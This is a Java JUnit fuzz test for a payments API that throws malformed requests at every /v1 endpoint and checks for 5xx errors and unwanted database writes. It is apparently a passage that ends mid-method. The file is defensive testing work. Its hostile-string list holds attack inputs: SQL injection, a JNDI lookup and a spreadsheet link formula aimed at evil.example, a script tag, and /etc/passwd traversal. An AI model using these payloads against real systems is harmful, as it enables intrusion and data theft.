package io.moneytrail.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.moneytrail.testing.Api;
import io.moneytrail.testing.ApiTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.core.MethodParameter;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;

/**
 * A seeded, bounded fuzz over every handler mapped under {@code /v1}, found through Spring's
 * handler mapping so that a new endpoint is fuzzed without touching this test. Path variables
 * get unknown ids, garbage and real ids of objects in several states (so wrong-state requests
 * happen); query parameters and bodies get wrong JSON types, huge and negative numbers, odd
 * and long Unicode, NUL, deep nesting, wrong content types and empty bodies.
 *
 * <p>It proves two things: no request gets a 5xx (or no answer at all), and a rejected request
 * (4xx) changes the row count of no table in the public schema. Two tables are left out of
 * that comparison, by design and only for the requests they concern: {@code idempotency_keys}
 * when the request carried an {@code Idempotency-Key} (the stored 4xx answer is what a retry
 * must replay), and {@code webhook_inbox} for provider webhooks (a rejected webhook is kept as
 * evidence). Background workers (resolver, webhook retries, the sandbox's deliveries) also
 * write rows: the test waits until the database is quiet before it starts, and when a rejected
 * request seems to have written, it waits for quiet again and sends the same request once
 * more, which must again be rejected and change nothing (a rejected request that writes does so
 * every time; the background does not). Only tables the background writes get that second
 * chance; a rejected request that changed any other table fails at once. The resolver's periodic {@code resolver.check} timeline entries
 * (written every few seconds, for days, for a payment whose customer never finished the page)
 * are not counted, nor are the audit log's rows for refused requests (an audit log records
 * refusals too).
 *
 * <p>Replay a failure with {@code -Dmoneytrail.fuzz.seed=N}; the seed is printed as
 * {@code fuzz seed: N}. {@code -Dmoneytrail.fuzz.requests} changes the number of requests.
 */
class EveryEndpointFuzzTest extends ApiTest {

    private static final int REQUESTS = Integer.getInteger("moneytrail.fuzz.requests", 1500);
    private static final Set<String> METHODS_TRIED = Set.of("GET", "POST", "PUT", "PATCH", "DELETE");
    /** Query parameters a controller reads by hand, so the handler mapping cannot show them. */
    private static final Map<String, List<String>> QUERY_READ_BY_HAND = Map.of(
            "POST " + ApiRequestFilter.FILE_UPLOAD_PATH, List.of("kind", "format", "name"));

    /** Tables the background workers insert into (resolver, webhook processing, compensations). */
    private static final Set<String> BACKGROUND = Set.of("timeline", "webhook_inbox", "payment_transactions",
            "journal_entries", "journal_lines", "outbox_events", "outbox_deliveries", "compensations", "refunds");

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    private RequestMappingHandlerMapping mapping;

    private Random random;
    private final Map<String, List<String>> ids = new LinkedHashMap<>();
    private final List<String> accounts = new ArrayList<>();
    private List<String> tables;

    record Endpoint(String method, String pattern, List<String> pathVariables, List<String> queryParameters,
                    Type body) {
        String name() {
            return method + " " + pattern;
        }
    }

    record Request(String method, String target, Map<String, String> headers, byte[] body, String description) {
        /** The same request; a fresh Idempotency-Key if it had one, so it is not a replay. */
        Request again(Random random) {
            Map<String, String> fresh = new LinkedHashMap<>(headers);
            fresh.computeIfPresent("Idempotency-Key", (k, v) -> v.length() > 255 ? v
                    : "fuzz-" + Long.toHexString(random.nextLong()));
            return new Request(method, target, fresh, body, description + "again; ");
        }

        String shown() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            text = text.length() > 300 ? text.substring(0, 300) + "... (" + body.length + " bytes)" : text;
            String line = method + " " + (target.length() > 300 ? target.substring(0, 300) + "..." : target);
            return line + " " + headers + " " + text.replace("\u0000", "\\0") + " [" + description + "]";
        }
    }

    record Reply(int status, String raw) {
    }

    @Test
    void no_request_to_any_v1_endpoint_gets_a_5xx_and_rejected_requests_write_no_row() {
        long seed = Long.getLong("moneytrail.fuzz.seed", new Random().nextLong());
        System.out.println("fuzz seed: " + seed);
        random = new Random(seed);

        List<Endpoint> endpoints = endpoints();
        assertThat(endpoints).as("handlers under /v1").hasSizeGreaterThan(30);
        tables = jdbc.sql("select table_name from information_schema.tables where table_schema = 'public'"
                + " and table_type = 'BASE TABLE' order by table_name").query(String.class).list();
        Set<String> endpointsBefore = new TreeSet<>(endpointIds());
        fixtures();

        List<String> failures = new ArrayList<>();
        Map<String, Integer> statuses = new TreeMap<>();
        int noise = 0;
        long sendNanos = 0;
        try {
            Map<String, Long> before = quiet();
            long started = System.nanoTime();
            for (int i = 0; i < REQUESTS && failures.size() < 20; i++) {
                Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
                Request request = request(endpoint);
                long sendStart = System.nanoTime();
                Reply reply = send(request);
                sendNanos += System.nanoTime() - sendStart;
                statuses.merge(endpoint.method() + " " + endpoint.pattern() + " " + reply.status(), 1, Integer::sum);
                if (reply.status() < 100 || reply.status() >= 500) {
                    failures.add("#" + i + " " + reply.status() + " for " + request.shown() + "\n    " + shorten(reply.raw()));
                    before = counts();
                    continue;
                }
                Map<String, Long> after = counts();
                if (reply.status() >= 400) {
                    List<String> changed = changed(before, after, request);
                    if (!changed.isEmpty()) {
                        // the background may have written meanwhile: when it is quiet, the same
                        // request again must be rejected again and change nothing
                        Map<String, Long> quiet = quiet();
                        Request again = request.again(random);
                        Reply second = send(again);
                        after = counts();
                        List<String> changedAgain = changed(quiet, after, again);
                        boolean background = changed.stream().allMatch(c -> BACKGROUND.contains(c.split(" ")[0]));
                        if (background && second.status() >= 400 && second.status() < 500 && changedAgain.isEmpty()) {
                            noise++;
                            System.out.println("fuzz: #" + i + " background wrote " + changed + " meanwhile; sent"
                                    + " again: " + second.status() + ", nothing changed");
                        } else {
                            failures.add("#" + i + " " + reply.status() + " changed " + changed + ", again "
                                    + second.status() + " changed " + changedAgain + " for " + request.shown()
                                    + "\n    " + shorten(reply.raw()));
                        }
                    }
                }
                before = after;
            }
            System.out.printf("fuzz: %d requests in %d ms; %d rejected requests re-sent because the background wrote"
                    + " meanwhile;"
                    + " %d ms waiting for answers%n", REQUESTS, (System.nanoTime() - started) / 1_000_000, noise,
                    sendNanos / 1_000_000);
        } finally {
            // endpoints the fuzz registered must not receive the other tests' events
            for (String id : endpointIds()) {
                if (!endpointsBefore.contains(id)) {
                    api.post("/v1/webhook_endpoints/" + id + "/disable", "{}");
                }
            }
        }
        statuses.forEach((k, v) -> System.out.println("fuzz: " + k + " x" + v));
        assertThat(failures).as("seed %d: requests that got a 5xx or wrote rows while rejected", seed).isEmpty();
    }

    // ------------------------------------------------------------------ endpoints

    private List<Endpoint> endpoints() {
        List<Endpoint> found = new ArrayList<>();
        for (Map.Entry<RequestMappingInfo, HandlerMethod> entry : mapping.getHandlerMethods().entrySet()) {
            RequestMappingInfo info = entry.getKey();
            Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
            for (String pattern : info.getPatternValues()) {
                if (!pattern.startsWith("/v1/") && !pattern.equals("/v1")) {
                    continue;
                }
                List<String> pathVariables = new ArrayList<>();
                Matcher variable = Pattern.compile("\\{([^}:]+)[^}]*}").matcher(pattern);
                while (variable.find()) {
                    pathVariables.add(variable.group(1));
                }
                List<String> query = new ArrayList<>();
                Type body = null;
                for (MethodParameter parameter : entry.getValue().getMethodParameters()) {
                    RequestParam param = parameter.getParameterAnnotation(RequestParam.class);
                    if (param != null) {
                        String name = !param.name().isEmpty() ? param.name()
                                : !param.value().isEmpty() ? param.value() : parameter.getParameterName();
                        query.add(name);
                    }
                    if (parameter.hasParameterAnnotation(RequestBody.class)) {
                        body = parameter.getGenericParameterType();
                    }
                }
                Collection<String> verbs = methods.isEmpty() ? List.of("GET", "POST")
                        : methods.stream().map(RequestMethod::name).toList();
                for (String verb : verbs) {
                    List<String> byHand = QUERY_READ_BY_HAND.getOrDefault(verb + " " + pattern, List.of());
                    List<String> all = new ArrayList<>(query);
                    all.addAll(byHand);
                    found.add(new Endpoint(verb, pattern, pathVariables, all, body));
                }
            }
        }
        found.sort((a, b) -> a.name().compareTo(b.name()));
        return found;
    }

    // ------------------------------------------------------------------ fixtures

    /** Objects in several states, so that path variables can name real ones. */
    private void fixtures() {
        String open = api.createOrder(1000, 1).text("id");
        String pendingOrder = api.createOrder(1000, 1).text("id");
        String pending = api.createPayment(pendingOrder, "manual").text("id");
        String[] authorized = paid("manual", "succeeded", "authorized");
        String[] captured = paid("automatic", "succeeded", "captured");
        String[] refunded = paid("automatic", "succeeded", "captured");
        String refund = api.post("/v1/refunds", "{\"payment\":\"" + refunded[1] + "\",\"amount\":300}",
                "fuzz-fixture-" + random.nextLong()).expect(200).text("id");
        String[] declined = paid("automatic", "declined", "failed");
        String cancelled = api.createOrder(1000, 1).text("id");
        api.post("/v1/orders/" + cancelled + "/cancel", "{}").expect(200);
        String[] fulfilled = paid("automatic", "succeeded", "captured");
        api.post("/v1/orders/" + fulfilled[0] + "/fulfill", "{}").expect(200);

        ids.put("ord_", List.of(open, pendingOrder, authorized[0], captured[0], refunded[0], declined[0], cancelled,
                fulfilled[0]));
        ids.put("pay_", List.of(pending, authorized[1], captured[1], refunded[1], declined[1], fulfilled[1]));
        ids.put("re_", List.of(refund));
        ids.put("evt_", listed("/v1/events?limit=5"));
        ids.put("we_", listed("/v1/webhook_endpoints?limit=3"));
        for (JsonNode account : api.get("/v1/ledger/accounts").expect(200).body().path("data")) {
            accounts.add(account.path("code").asText());
        }
        ids.put("account", accounts);
        ids.put("provider", List.of("sandbox", "stripe", "yookassa"));

        // reconciliation: a report without one paid order, so its run opens an exception
        String today = LocalDate.now(ZoneOffset.UTC).toString();
        String report = api.sandbox("GET", "/reports/balance_transactions?from=" + today + "&to="
                + LocalDate.now(ZoneOffset.UTC).plusDays(1), null).expect(200).raw();
        String missing = paid("automatic", "succeeded", "captured")[2];
        String without = String.join("\n", report.lines().filter(l -> !l.contains(missing)).toList()) + "\n";
        Api.Response file = api.send(api.request("/v1/reconciliation/files?kind=provider&name=fuzz.csv")
                .header("Content-Type", "text/csv").POST(java.net.http.HttpRequest.BodyPublishers.ofString(without))
                .build()).expect(200);
        Api.Response run = api.post("/v1/reconciliation/runs", "{\"from\":\"" + today + "\",\"to\":\"" + today
                + "\",\"provider_file\":\"" + file.text("id") + "\"}").expect(200);
        ids.put("rf_", listed("/v1/reconciliation/files?limit=3"));
        ids.put("rr_", List.of(run.text("id")));
        List<String> exceptions = new ArrayList<>(listed("/v1/reconciliation/exceptions?status=open&limit=3"));
        if (!exceptions.isEmpty()) {
            api.post("/v1/reconciliation/exceptions/" + exceptions.get(0) + "/acknowledge", "{\"reason\":\"fuzz\"}");
        }
        exceptions.addAll(listed("/v1/reconciliation/exceptions?status=resolved&limit=2"));
        ids.put("rx_", exceptions);
    }

    /** A paid (or declined) order: order id, payment id, the provider's payment id. */
    private String[] paid(String captureMethod, String outcome, String status) {
        String order = api.createOrder(1000, 1).text("id");
        Api.Response payment = api.createPayment(order, captureMethod);
        api.completeSandboxPage(payment.body().path("next_action").path("redirect_url").asText(), outcome);
        Api.Response done = api.eventually("/v1/payments/" + payment.text("id"), r -> status.equals(r.text("status")));
        return new String[] {order, payment.text("id"), done.text("provider_payment_id")};
    }

    private List<String> listed(String path) {
        List<String> found = new ArrayList<>();
        for (JsonNode item : api.get(path).expect(200).body().path("data")) {
            found.add(item.path("id").asText());
        }
        return found;
    }

    private List<String> endpointIds() {
        List<String> all = new ArrayList<>();
        String after = null;
        do {
            JsonNode page = api.get("/v1/webhook_endpoints?limit=100" + (after == null ? "" : "&starting_after=" + after))
                    .expect(200).body();
            after = null;
            for (JsonNode item : page.path("data")) {
                all.add(item.path("id").asText());
                after = item.path("id").asText();
            }
            if (!page.path("has_more").asBoolean()) {
                after = null;
            }
        } while (after != null);
        return all;
    }

    // ------------------------------------------------------------------ row counts

    private Map<String, Long> counts() {
        StringBuilder sql = new StringBuilder();
        for (String table : tables) {
            // the resolver re-checks a payment whose customer never finished the page every few
            // seconds for days, writing a timeline entry each time: those are not counted
            // seconds for days, writing a timeline entry each time: those are not counted; and a
            // refused request is audited by design: only rows of other outcomes are counted
            String rows = switch (table) {
                case "timeline" -> "count(*) filter (where kind <> 'resolver.check')";
                case "audit_log" -> "count(*) filter (where outcome <> 'refused')";
                default -> "count(*)";
            };
            sql.append(sql.isEmpty() ? "" : " union all ").append("select '").append(table)
                    .append("' as t, ").append(rows).append(" as n from \"").append(table).append('"');
        }
        Map<String, Long> counts = new HashMap<>();
        jdbc.sql(sql.toString()).query((rs, n) -> counts.put(rs.getString(1), rs.getLong(2))).list();
        return counts;
    }

    /** Waits (bounded) until no table's row count moved for a while: the background is done. */
    private Map<String, Long> quiet() {
        long deadline = System.nanoTime() + 15_000_000_000L;
        Map<String, Long> last = counts();
        long stableSince = System.nanoTime();
        while (System.nanoTime() < deadline) {
            Api.sleep(100);
            Map<String, Long> now = counts();
            if (!now.equals(last)) {
                last = now;
                stableSince = System.nanoTime();
            } else if (System.nanoTime() - stableSince > 1_000_000_000L) {
                return now;
            }
        }
        return last;
    }

    private static List<String> changed(Map<String, Long> before, Map<String, Long> after, Request request) {
        List<String> changed = new ArrayList<>();
        for (Map.Entry<String, Long> table : after.entrySet()) {
            if (table.getKey().equals("idempotency_keys") && request.headers().containsKey("Idempotency-Key")) {
                continue;
            }
            if (table.getKey().equals("webhook_inbox") && request.target().startsWith("/v1/webhooks/")) {
                continue;
            }
            if (!table.getValue().equals(before.get(table.getKey()))) {
                changed.add(table.getKey() + " " + before.get(table.getKey()) + "->" + table.getValue());
            }
        }
        return changed;
    }

    // ------------------------------------------------------------------ requests

    private Request request(Endpoint endpoint) {
        String method = endpoint.method();
        String description = "";
        if (random.nextInt(40) == 0) {
            method = pick(METHODS_TRIED.stream().sorted().toList());
            description += "method " + method + "; ";
        }
        StringBuilder target = new StringBuilder();
        Matcher variable = Pattern.compile("\\{([^}:]+)[^}]*}").matcher(endpoint.pattern());
        int at = 0;
        while (variable.find()) {
            target.append(endpoint.pattern(), at, variable.start()).append(pathValue(endpoint, variable.group(1)));
            at = variable.end();
        }
        target.append(endpoint.pattern().substring(at));
        String query = query(endpoint);
        if (!query.isEmpty()) {
            target.append('?').append(query);
        }

        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + api.key());
        byte[] body = null;
        if (!"GET".equals(method) && !"DELETE".equals(method) || random.nextInt(20) == 0) {
            String[] contentType = {"application/json"};
            body = body(endpoint, contentType);
            if (contentType[0] != null) {
                headers.put("Content-Type", contentType[0]);
            }
        }
        if ("POST".equals(method)) {
            boolean moneyMove = endpoint.pattern().equals("/v1/refunds") || endpoint.pattern().endsWith("/capture");
            int dice = random.nextInt(20);
            if (moneyMove ? dice > 0 : dice < 4) {
                headers.put("Idempotency-Key", dice == 1 ? "k".repeat(300) : "fuzz-" + Long.toHexString(random.nextLong()));
            }
        }
        if (random.nextInt(25) == 0) {
            headers.put("Accept", pick(List.of("text/html", "application/xml", "*/*", "application/json;q=0", "image/png")));
        }
        return new Request(method, target.toString(), headers, body, description);
    }

    private String pathValue(Endpoint endpoint, String variable) {
        int dice = random.nextInt(10);
        if (dice < 6) {
            String kind = variable.equals("code") ? "account" : variable.equals("provider") ? "provider"
                    : prefixOf(endpoint.pattern());
            List<String> real = kind == null ? null : ids.get(kind);
            if (real == null || real.isEmpty() || random.nextInt(5) == 0) {
                // a real id of another kind: the wrong object
                List<String> all = ids.values().stream().flatMap(List::stream).toList();
                return encode(pick(all));
            }
            return encode(pick(real));
        }
        if (dice < 8) {
            // well-formed, unknown
            String prefix = Objects.requireNonNullElse(prefixOf(endpoint.pattern()), "ord_");
            return prefix + "01" + "z".repeat(24);
        }
        return encode(hostileString());
    }

    private static String prefixOf(String pattern) {
        if (pattern.startsWith("/v1/orders/")) {
            return "ord_";
        }
        if (pattern.startsWith("/v1/payments/")) {
            return "pay_";
        }
        if (pattern.startsWith("/v1/refunds/")) {
            return "re_";
        }
        if (pattern.startsWith("/v1/events/")) {
            return "evt_";
        }
        if (pattern.startsWith("/v1/webhook_endpoints/")) {
            return "we_";
        }
        if (pattern.startsWith("/v1/reconciliation/files/")) {
            return "rf_";
        }
        if (pattern.startsWith("/v1/reconciliation/runs/")) {
            return "rr_";
        }
        if (pattern.startsWith("/v1/reconciliation/exceptions/")) {
            return "rx_";
        }
        return null;
    }

    private String query(Endpoint endpoint) {
        List<String> parts = new ArrayList<>();
        List<String> names = new ArrayList<>(endpoint.queryParameters());
        if (random.nextInt(6) == 0) {
            names.add(pick(List.of("created[gte]", "starting_after", "limit", "as_of", "expand[]", "%00", "a%zzb")));
        }
        for (String name : names) {
            if (random.nextInt(3) == 0) {
                continue;
            }
            String encodedName = name.contains("%") ? name : encode(name);
            parts.add(encodedName + "=" + queryValue(name));
        }
        if (random.nextInt(30) == 0 && !parts.isEmpty()) {
            parts.add(parts.get(0)); // the same parameter twice
        }
        return String.join("&", parts);
    }

    private String queryValue(String name) {
        int dice = random.nextInt(10);
        if (dice < 2) {
            return pick(List.of("%00", "a%00b", "%zz", "%", "%C0%80", "%ED%A0%80", "%FF%FE", "%E2%80%AE", "%2F..%2F",
                    "%F0%9F%92%B8", "%u0000", "+", "%0D%0A"));
        }
        if (dice < 4) {
            return encode(pick(List.of("99999999999999", "-1", "0", "9223372036854775808", "-9223372036854775809",
                    "1e400", "NaN", "+300000-01-01T00:00:00Z", "0000-01-01", "0000-01-01T00:00:00Z",
                    "-5000-01-01T00:00:00Z", "+99999999-12-31", "2026-02-30", "999999999999", "1.5", "2026-11-27",
                    "2026-11-27T12:00:00Z", "true", "[]")));
        }
        if (dice < 6) {
            List<String> all = ids.values().stream().flatMap(List::stream).toList();
            return encode(pick(all));
        }
        if (dice < 7) {
            return encode(pick(List.of("open", "paid", "hledger", "csv", "beancount", "provider", "bank", "sandbox",
                    "order.paid", "failed", "rejected", "acknowledged")));
        }
        String value = hostileString();
        return encode(value.length() > 3000 ? value.substring(0, 3000) : value);
    }

    private byte[] body(Endpoint endpoint, String[] contentType) {
        int dice = random.nextInt(100);
        if (endpoint.pattern().equals(ApiRequestFilter.FILE_UPLOAD_PATH) && dice < 50) {
            contentType[0] = pick(List.of("text/csv", "application/octet-stream", "text/plain", "application/xml"));
            return statementFile();
        }
        if (dice < 12) {
            contentType[0] = pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "application/json; charset=utf-16",
                    "application/json; charset=bogus", "", "application/json;;", "*/*"));
            if (contentType[0].isEmpty()) {
                contentType[0] = null;
            }
        }
        if (dice < 30) {
            return rawBody();
        }
        Object value = dice < 60 ? template(endpoint) : generated(endpoint.body(), 0);
        if (value == null) {
            value = generated(endpoint.body(), 0);
        }
        value = mutate(value, 1 + random.nextInt(2));
        return json(value).getBytes(StandardCharsets.UTF_8);
    }

    private byte[] rawBody() {
        int which = random.nextInt(22);
        return switch (which) {
            case 0 -> new byte[0];
            case 1 -> "null".getBytes(StandardCharsets.UTF_8);
            case 2 -> "[]".getBytes(StandardCharsets.UTF_8);
            case 3 -> "\"text\"".getBytes(StandardCharsets.UTF_8);
            case 4 -> "[".repeat(10_000).getBytes(StandardCharsets.UTF_8);
            case 5 -> ("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)).getBytes(StandardCharsets.UTF_8);
            case 6 -> "[".repeat(10_000).concat("]".repeat(10_000)).getBytes(StandardCharsets.UTF_8);
            case 7 -> new byte[] {'{', '"', 'a', '"', ':', '"', 0, '"', '}'};
            case 8 -> new byte[] {(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0};
            case 9 -> new byte[] {'{', '"', 'r', 'e', 'f', 'e', 'r', 'e', 'n', 'c', 'e', '"', ':', '"', (byte) 0xC3,
                (byte) 0x28, '"', '}'};
            case 10 -> "{\"reference\":\"\\u0000\"}".getBytes(StandardCharsets.UTF_8);
            case 11 -> "1e99999".getBytes(StandardCharsets.UTF_8);
            case 12 -> "99999999999999999999999999999999999999".getBytes(StandardCharsets.UTF_8);
            case 13 -> "{\"amount\":1}trailing".getBytes(StandardCharsets.UTF_8);
            case 14 -> "\uFEFF{}".getBytes(StandardCharsets.UTF_8);
            case 15 -> "{\"a\":1,\"a\":2}".getBytes(StandardCharsets.UTF_8);
            case 16 -> ("{\"" + "k".repeat(100_000) + "\":1}").getBytes(StandardCharsets.UTF_8);
            case 17 -> "{/*c*/}".getBytes(StandardCharsets.UTF_8);
            case 18 -> "{'a':1}".getBytes(StandardCharsets.UTF_8);
            case 19 -> "{\"amount\":NaN}".getBytes(StandardCharsets.UTF_8);
            case 20 -> "\u0000".getBytes(StandardCharsets.UTF_8);
            default -> "<?xml version=\"1.0\"?><a/>".getBytes(StandardCharsets.UTF_8);
        };
    }

    private byte[] statementFile() {
        String nul = random.nextBoolean() ? "\u0000" : pick(List.of("\uFEFF", "\u202E", "e\u0301", "\uD83D\uDCB8", ""));
        String text = switch (random.nextInt(6)) {
            case 0 -> "id,type,amount,currency,fee,net,created,payment_id,refund_id,description\n"
                    + "txn_1,charge,10.00,EUR,0.10,9.90,2026-11-27T10:00:00Z,pay" + nul + "1,,x" + nul + "y\n";
            case 1 -> ":20:STMT" + nul + "\n:25:IT60X0542811101000000123456\n:28C:1/1\n:60F:C261127EUR100,00\n"
                    + ":61:2611271127C10,00NTRFNONREF//" + nul + "\n:86:PAYMENT " + nul + "\n:62F:C261127EUR110,00\n";
            case 2 -> "<?xml version=\"1.0\"?><Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.08\">"
                    + "<BkToCstmrStmt><Stmt><Id>" + nul + "</Id></Stmt></BkToCstmrStmt></Document>";
            case 3 -> "1CClientBankExchange\nВерсияФормата=1.03\nКодировка=UTF-8\nСекцияДокумент=Платежное поручение\n"
                    + "Номер=1" + nul + "\nДата=27.11.2026\nСумма=10.00\nНазначениеПлатежа=" + nul + "\nКонецДокумента\n"
                    + "КонецФайла\n";
            case 4 -> "Идентификатор платежа;Сумма платежа;Дата платежа\n" + nul + ";10,00;27.11.2026\n";
            default -> "created,amount\n" + "+300000-01-01T00:00:00Z,99999999999999999999\n0000-01-01,1\n";
        };
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** A body that passes the first checks of the known endpoints, so mutations reach deep. */
    private Object template(Endpoint endpoint) {
        String p = endpoint.pattern();
        String account1 = accounts.isEmpty() ? "assets:bank" : pick(accounts);
        String account2 = accounts.isEmpty() ? "equity:owner" : pick(accounts);
        Map<String, Object> debit = map("account", account1, "direction", "debit", "amount", 100L, "currency", "EUR");
        Map<String, Object> credit = map("account", account2, "direction", "credit", "amount", 100L, "currency", "EUR");
        if (p.equals("/v1/orders")) {
            return map("currency", "EUR", "reference", "R-1", "customer", map("email", "a@example.com", "phone", "+39"),
                    "lines", new ArrayList<>(List.of(map("sku", "S", "name", "N", "quantity", 1L, "unit_amount", 100L,
                            "vat_rate", 22L))), "metadata", map("k", "v"));
        }
        if (p.endsWith("/payments") && p.startsWith("/v1/orders/")) {
            return map("provider", "sandbox", "capture_method", "manual", "return_url", "https://shop.example/back");
        }
        if (p.endsWith("/capture")) {
            return map("amount", 100L);
        }
        if (p.equals("/v1/refunds")) {
            return map("payment", pick(ids.get("pay_")), "amount", 1L, "reason", "requested_by_customer");
        }
        if (p.equals("/v1/ledger/adjustments")) {
            return map("lines", new ArrayList<>(List.of(debit, credit)), "reason", "fuzz", "actor", "fuzzer",
                    "order", pick(ids.get("ord_")), "effective_at", "2026-01-01T00:00:00Z",
                    "reference", "fuzz-" + random.nextInt(1000));
        }
        if (p.equals("/v1/webhook_endpoints")) {
            return map("url", "http://127.0.0.1:9/fuzz");
        }
        if (p.equals("/v1/reconciliation/runs")) {
            return map("from", "2026-01-01", "to", "2026-01-02", "provider_file", pick(ids.get("rf_")), "bank_file",
                    null);
        }
        if (p.startsWith("/v1/reconciliation/exceptions/")) {
            return map("reason", "fuzz", "actor", "fuzzer", "adjustment",
                    map("lines", new ArrayList<>(List.of(debit, credit))));
        }
        if (p.startsWith("/v1/webhooks/")) {
            return map("id", "evt_fuzz" + random.nextInt(1000), "type", "payment.succeeded", "created", 1764000000L,
                    "data", map("object", map("id", "sbx_" + random.nextInt(1000), "amount", 100L, "status",
                            "succeeded", "metadata", map("order", pick(ids.get("ord_"))))));
        }
        return null;
    }

    /** A JSON value shaped by the body's Java type (a record's components, lists, maps). */
    private Object generated(Type type, int depth) {
        if (type == null || depth > 4) {
            return random.nextBoolean() ? map("x", 1L) : hostileString();
        }
        Class<?> raw = type instanceof ParameterizedType parameterized ? (Class<?>) parameterized.getRawType()
                : type instanceof Class<?> c ? c : Object.class;
        if (raw.isRecord()) {
            Map<String, Object> object = new LinkedHashMap<>();
            for (RecordComponent component : raw.getRecordComponents()) {
                if (random.nextInt(4) > 0) {
                    object.put(snake(component.getName()), generated(component.getGenericType(), depth + 1));
                }
            }
            return object;
        }
        if (List.class.isAssignableFrom(raw)) {
            Type element = type instanceof ParameterizedType parameterized ? parameterized.getActualTypeArguments()[0]
                    : Object.class;
            List<Object> list = new ArrayList<>();
            for (int i = random.nextInt(3); i >= 0; i--) {
                list.add(generated(element, depth + 1));
            }
            return list;
        }
        if (Map.class.isAssignableFrom(raw)) {
            return map(hostileString(), hostileString());
        }
        if (raw == Long.class || raw == long.class || raw == Integer.class || raw == int.class) {
            return hostileNumber();
        }
        if (raw == Boolean.class || raw == boolean.class) {
            return random.nextBoolean();
        }
        return hostileString();
    }

    /** Replaces one or more values anywhere in the tree by hostile ones (of any JSON type). */
    @SuppressWarnings("unchecked")
    private Object mutate(Object value, int times) {
        Object root = value;
        for (int t = 0; t < times; t++) {
            List<Object[]> slots = new ArrayList<>();
            collect(root, slots);
            if (slots.isEmpty()) {
                return hostileValue(0);
            }
            Object[] slot = pick(slots);
            Object container = slot[0];
            Object replacement = hostileValue(0);
            if (container instanceof Map<?, ?> map) {
                if (random.nextInt(8) == 0) {
                    ((Map<String, Object>) map).put(hostileString(), replacement); // an unknown field
                } else {
                    ((Map<String, Object>) map).put((String) slot[1], replacement);
                }
            } else {
                ((List<Object>) container).set((Integer) slot[1], replacement);
            }
        }
        return root;
    }

    private void collect(Object value, List<Object[]> slots) {
        if (value instanceof Map<?, ?> map) {
            for (Map.Entry<?, ?> entry : map.entrySet()) {
                slots.add(new Object[] {map, entry.getKey()});
                collect(entry.getValue(), slots);
            }
        } else if (value instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                slots.add(new Object[] {list, i});
                collect(list.get(i), slots);
            }
        }
    }

    private Object hostileValue(int depth) {
        return switch (random.nextInt(depth > 2 ? 3 : 7)) {
            case 0, 1 -> hostileString();
            case 2 -> hostileNumber();
            case 3 -> pick(List.of(Boolean.TRUE, new Raw("null"), new Raw("{}"), new Raw("[]")));
            case 4 -> new ArrayList<>(List.of(hostileValue(depth + 1), hostileValue(depth + 1)));
            case 5 -> map("nested", hostileValue(depth + 1));
            default -> new Raw("[".repeat(3000) + "]".repeat(3000));
        };
    }

    private Object hostileNumber() {
        return new Raw(pick(List.of("0", "-1", "1", "100", "-9223372036854775808", "9223372036854775807",
                "9223372036854775808", "-9223372036854775809", "99999999999999999999999", "2147483648", "-2147483649",
                "1e400", "-1e400", "1.5", "-0.0", "1E2", "0.000000000001", "99999999999999", "1000000000000000000",
                "\"12\"", "true")));
    }

    private String hostileString() {
        return switch (random.nextInt(30)) {
            case 0 -> "";
            case 1 -> "A\u0000B";
            case 2 -> "\u0000";
            case 3 -> "\u202Eevil\u202C";
            case 4 -> "\u200F\u200E\u061C";
            case 5 -> "\uD800";
            case 6 -> "\uDC00x\uD800";
            case 7 -> "e" + "\u0301".repeat(500);
            case 8 -> "\uD83D\uDCB8\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67";
            case 9 -> "x".repeat(100_000);
            case 10 -> "\uD83D\uDCB8".repeat(20_000);
            case 11 -> "' or 1=1 --";
            case 12 -> "=HYPERLINK(\"http://evil.example\",\"x\")";
            case 13 -> "${jndi:ldap://evil.example/a}";
            case 14 -> "<script>alert(1)</script>";
            case 15 -> "../../etc/passwd";
            case 16 -> "\t\r\n";
            case 17 -> "\uFEFF\uFFFF\uFFFE";
            case 18 -> "+300000-01-01T00:00:00Z";
            case 19 -> "0000-01-01";
            case 20 -> "-5000-01-01T00:00:00Z";
            case 21 -> "99999999999999";
            case 22 -> "ord_" + "z".repeat(26);
            case 23 -> "EUR\u0000";
            case 24 -> " ";
            case 25 -> "\\u0000";
            case 26 -> "x".repeat(300);
            case 27 -> "%00%zz";
            case 28 -> "\u0085\u2028\u2029";
            default -> {
                List<String> all = ids.values().stream().flatMap(List::stream).toList();
                yield all.isEmpty() ? "ord_x" : pick(all) + (random.nextBoolean() ? "\u0000" : "");
            }
        };
    }

    // ------------------------------------------------------------------ JSON, encoding, HTTP

    /** A JSON value written as given, not as a string: odd numbers and the like. */
    record Raw(String json) {
    }

    private static Map<String, Object> map(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
